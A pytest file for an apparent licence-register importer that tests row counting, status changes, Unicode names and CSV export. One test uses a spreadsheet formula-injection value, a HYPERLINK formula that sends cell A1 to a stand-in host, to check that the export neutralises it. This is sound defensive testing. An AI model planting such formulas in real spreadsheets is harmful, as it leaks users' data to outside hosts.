"""What a list does to the register is counted row by row, and nothing is counted twice or forgotten."""

from __future__ import annotations

import unicodedata
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import func, select

from iris import models as m
from iris.gateways.sheets_writing import write_csv
from iris.rules.status import State
from tests.services.incoming import HEADER, ZEROS, Lists

OCTOBER, NOVEMBER = date(2026, 10, 1), date(2026, 11, 1)
FILLER = [(f"{number:04}", f"Filler {number} Ltd", "Active") for number in range(100, 120)]

BEFORE = [
    ("0001", "Alpha Ltd", "Active"),
    ("0002", "Beta Ltd", "Active"),
    ("0003", "Gamma Ltd", "Active"),
    ("0004", "Delta Ltd", "Active"),
    ("0005", "Epsilon Ltd", "Cancelled"),
    ("0006", "Zeta Ltd", "Active"),
    *FILLER,
]
AFTER = [
    ("0001", "Alpha Ltd", "Active"),
    ("", "", ""),
    ("0002", "Beta Ltd", "Suspended"),
    ("0004", "Delta Ltd", "Active"),
    ("0005", "Epsilon Ltd", "Active"),
    ("0006", "Zeta Ltd", "Purple"),
    ("0001", "Alpha Ltd", "Active"),
    ("\u00a0", " ", "\u200b"),
    ("0030", "Theta Ltd", "Active"),
    ("0031", "", "Active"),
    *FILLER,
]


def numbers(lists: Lists) -> dict[str, int]:
    """How many rows the register has, by table."""
    tables = (m.RegisterEntry, m.EntryName, m.Contact, m.Licence, m.StatusFact, m.EntryStatus, m.JournalHead)
    with lists.shop.database.reading() as session:
        return {t.__tablename__: session.scalar(select(func.count()).select_from(t)) or 0 for t in tables}


def test_a_first_list_is_all_new(lists: Lists) -> None:
    batch = lists.take(BEFORE)
    assert lists.counts(batch) == {"new": 26}
    assert numbers(lists)["licence"] == numbers(lists)["status_fact"] == 26
    assert lists.status("0005", NOVEMBER).state is State.REVOKED
    assert lists.word("0001") == "licensed"
    assert lists.word("0005") == "licence_revoked"


def test_the_counts_add_up_whatever_becomes_of_the_rows(lists: Lists) -> None:
    lists.take(BEFORE)
    lists.take([row for row in BEFORE if row[0] != "0004"], OCTOBER)
    batch = lists.take(AFTER, NOVEMBER)
    assert lists.counts(batch) == {
        "new": 1, "changed": 1, "returned": 1, "reinstated": 1, "unchanged": 21, "duplicate": 1, "rejected": 2,
        "blank": 2, "gone": 1, "kept": 1,
    }  # fmt: skip
    counts = lists.batch(batch).counts
    assert counts["read"] == len(AFTER)
    assert counts["read"] == sum(counts[name] for name in ZEROS if name not in ("gone", "kept"))
    staged = len(lists.rows(batch, *ZEROS))
    assert staged == counts["read"] + counts["gone"] + counts["kept"]


def test_what_the_mixture_left_in_the_register(lists: Lists) -> None:
    lists.take(BEFORE)
    lists.take([row for row in BEFORE if row[0] != "0004"], OCTOBER)
    lists.take(AFTER, NOVEMBER)
    states = {number: lists.status(number, NOVEMBER).state for number in ("0001", "0002", "0003", "0004", "0005")}
    assert states == {
        "0001": State.VALID, "0002": State.SUSPENDED, "0003": State.NO_LONGER_LISTED, "0004": State.VALID,
        "0005": State.VALID,
    }  # fmt: skip
    assert lists.status("0006", NOVEMBER).state is State.VALID
    assert lists.word("0003") == "no_longer_listed"
    assert lists.licence("0003").last_seen_on == OCTOBER
    assert lists.listed() >= {"0001", "0002", "0004", "0005", "0006", "0030"}
    assert not lists.listed() & {"0003", "0031"}


def test_a_rejected_row_says_why_in_a_sentence_and_keeps_its_cells(lists: Lists) -> None:
    batch = lists.read([*FILLER, ("0031", "", "Active"), ("0006", "Zeta Ltd", "Purple")])
    nameless, purple = lists.rows(batch, "rejected")
    assert (nameless.row_number, nameless.reason) == (22, "The name is missing.")
    assert (purple.row_number, purple.name, purple.cells) == (23, "Zeta Ltd", ["0006", "Zeta Ltd", "Purple"])
    assert "Purple" in (purple.reason or "")


def test_the_same_list_again_changes_nothing(lists: Lists) -> None:
    lists.take(BEFORE)
    before = numbers(lists)
    batch = lists.take(BEFORE, OCTOBER)
    assert lists.counts(batch) == {"unchanged": 26}
    assert numbers(lists) | {"journal_head": 0} == before | {"journal_head": 0}
    assert lists.batch(batch).source.newest_on == OCTOBER


def test_the_same_list_of_the_same_day_changes_nothing(lists: Lists) -> None:
    lists.take(BEFORE)
    assert lists.counts(lists.take(BEFORE)) == {"unchanged": 26}


def test_a_row_that_was_mended_comes_in_and_the_others_stay(lists: Lists) -> None:
    """Case 13: 100 rows, row 60 without a name; mended; then the very same file a third time."""
    rows = [(f"{number:04}", f"Agency {number} Ltd", "Active") for number in range(1, 101)]
    broken = [*rows[:59], ("0060", "", "Active"), *rows[60:]]
    first = lists.take(broken)
    assert lists.counts(first) == {"new": 99, "rejected": 1}
    assert lists.rows(first, "rejected")[0].row_number == 61
    assert lists.counts(lists.take(rows)) == {"new": 1, "unchanged": 99}
    assert lists.counts(lists.take(rows)) == {"unchanged": 100}
    assert numbers(lists)["register_entry"] == numbers(lists)["status_fact"] == 100


def test_a_number_keeps_its_zeros(lists: Lists) -> None:
    lists.take(BEFORE)
    licence = lists.licence("0001")
    assert (licence.number, licence.number_key) == ("0001", "1")


def test_a_name_in_either_unicode_form_is_one_name(lists: Lists) -> None:
    """Case 33: composed and decomposed letters look the same, so they are the same."""
    lists.take([("7", unicodedata.normalize("NFC", "Hòa Bình"), "Active"), *FILLER])
    batch = lists.take([("7", unicodedata.normalize("NFD", "Hòa Bình"), "Active"), *FILLER], OCTOBER)
    assert lists.counts(batch) == {"unchanged": 21}
    assert [name.text for name in lists.licence("7").entry.names] == [unicodedata.normalize("NFC", "Hòa Bình")]


def test_permissions_without_a_number_are_told_apart_by_name_and_place(lists: Lists) -> None:
    header = ("Agency Name", "Address", "Status")
    rows = [("Alpha Ltd", "1 High Street", "Active"), ("Alpha Ltd", "2 Low Road", "Suspended")]
    filler = [(name, "3 Far Lane", state) for _, name, state in FILLER]
    assert lists.counts(lists.take([*rows, *filler], header=header)) == {"new": 22}
    assert lists.counts(lists.take([*reversed(rows), *filler], OCTOBER, header=header)) == {"unchanged": 22}


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1)', "@ Home Accommodation Services Ltd", "-1 Ltd"])
def test_a_name_that_a_spreadsheet_would_run_comes_back_as_it_was(lists: Lists, tmp_path: Path, name: str) -> None:
    """Case 61: neutralised on the way out, unchanged on the way in."""
    rows = [("9", name, "Active"), *FILLER]
    lists.take(rows)
    assert lists.licence("9").entry.name == name
    exported = tmp_path / "export.csv"
    exported.write_bytes(b"".join(write_csv(rows, HEADER)))
    assert f"'{name[0]}" in exported.read_text("utf-8-sig")
    assert lists.counts(lists.read_file(exported, OCTOBER)) == {"unchanged": 21}


def test_a_change_of_the_address_alone_writes_no_fact(lists: Lists) -> None:
    header = (*HEADER, "Address")
    lists.take([("1", "Alpha Ltd", "Active", "1 High Street"), *((*row, "") for row in FILLER)], header=header)
    batch = lists.take(
        [("1", "Alpha Ltd", "Active", "2 Low Road"), *((*row, "") for row in FILLER)], OCTOBER, header=header
    )
    assert lists.counts(batch) == {"changed": 1, "unchanged": 20}
    assert len(lists.licence("1").facts) == 1
